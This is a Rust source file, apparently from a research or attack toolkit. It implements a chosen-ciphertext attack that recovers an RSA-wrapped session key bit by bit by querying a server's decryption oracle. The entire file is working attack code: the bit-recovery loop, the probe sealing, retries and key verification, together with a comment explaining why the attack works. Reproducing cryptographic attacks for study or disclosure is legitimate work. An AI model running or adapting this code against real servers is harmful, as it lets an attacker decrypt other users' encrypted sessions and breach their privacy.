use std::fmt;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use super::AttackError;
use crate::oracle::{DecryptionOracle, OracleError, OracleReply};
use crate::rsa::{shift_ciphertext, RsaPublicKey};
use crate::victim_prng::SessionKey;
use crate::wup::{decrypt_payload, seal_with_blob, EncryptedSession, WupMessage, SESSION_KEY_BITS};

#[derive(Debug, Clone)]
pub struct Cca2Config {
    /// Width of the server's truncated key.
    pub key_bits: u32,
    /// Extra attempts per query after a transport failure.
    pub max_retries: u32,
}

impl Default for Cca2Config {
    fn default() -> Self {
        Cca2Config {
            key_bits: SESSION_KEY_BITS,
            max_retries: 3,
        }
    }
}

#[derive(Debug, Clone)]
pub struct Cca2Result {
    pub recovered_key: SessionKey,
    /// Answered oracle queries; retries after transport errors not counted.
    pub queries: u64,
    /// Outcome per key bit, lowest bit first: `true` when the server answered.
    pub per_bit_outcomes: Vec<bool>,
    pub wall_time: Duration,
    /// Whether the recovered key opens the target's payload.
    pub verified: bool,
}

impl Cca2Result {
    pub fn recovered(&self) -> bool {
        self.verified
    }

    pub fn to_json(&self) -> Value {
        let outcomes: String = self.per_bit_outcomes.iter().map(|&r| if r { '0' } else { '1' }).collect();
        json!({
            "recovered": self.verified,
            "key": self.recovered_key.to_hex(),
            "queries": self.queries,
            "key_bits": self.per_bit_outcomes.len(),
            "accepted_queries": self.per_bit_outcomes.iter().filter(|&&r| r).count(),
            "bits_low_first": outcomes,
        })
    }
}

impl fmt::Display for Cca2Result {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let status = if self.verified { "recovered" } else { "FAILED to recover" };
        write!(
            f,
            "{status} session key {} with {} oracle queries in {:.2?}",
            self.recovered_key.to_hex(),
            self.queries,
            self.wall_time
        )
    }
}

/// Recover the session key wrapped in `target` one bit at a time.
///
/// Shifting the ciphertext by `b` makes the server decrypt `2^b * k`, and
/// after truncation to `w` bits that is `(k mod 2^(w-b)) << b`: the low
/// `w - b` bits of `k`, moved to the top. Walking `b` from `w - 1` down, all
/// but the lowest of those bits are already known, so the attacker seals a
/// request under the known bits with the new bit guessed 0. The server
/// answers exactly when the guess is right.
pub fn cca2_attack(
    target: &EncryptedSession,
    oracle: &mut dyn DecryptionOracle,
    public: &RsaPublicKey,
    cfg: &Cca2Config,
) -> Result<Cca2Result, AttackError> {
    let w = cfg.key_bits;
    if !(1..=SESSION_KEY_BITS).contains(&w) {
        return Err(AttackError::InvalidParameter(format!("key width {w} not in 1..=128")));
    }
    let start = Instant::now();
    let c = target.blob_value();
    let mut known: u128 = 0;
    let mut outcomes = Vec::with_capacity(w as usize);
    let mut queries = 0u64;

    for i in 0..w {
        let b = w - 1 - i;
        let shifted = shift_ciphertext(public, &c, b);
        let candidate = SessionKey::from_u128(known << b);
        let request = WupMessage::sample_request("cca2").with_field("seq", i.to_string());
        let probe = seal_with_blob(public, &shifted, &candidate, &request)?;
        let reply = query_with_retries(oracle, &probe, cfg.max_retries)?;
        queries += 1;
        let responded = reply.responded();
        if !responded {
            known |= 1 << i;
        }
        outcomes.push(responded);
    }

    let recovered_key = SessionKey::from_u128(known);
    let verified = decrypt_payload(&recovered_key, &target.payload).is_ok();
    Ok(Cca2Result {
        recovered_key,
        queries,
        per_bit_outcomes: outcomes,
        wall_time: start.elapsed(),
        verified,
    })
}

fn query_with_retries(oracle: &mut dyn DecryptionOracle, probe: &EncryptedSession, retries: u32) -> Result<OracleReply, AttackError> {
    let mut attempts = 0;
    loop {
        attempts += 1;
        match oracle.query(probe) {
            Ok(reply) => return Ok(reply),
            Err(e @ OracleError::Transport(_)) if attempts > retries => {
                return Err(AttackError::Oracle { attempts, source: e });
            }
            Err(OracleError::Transport(_)) => {}
        }
    }
}
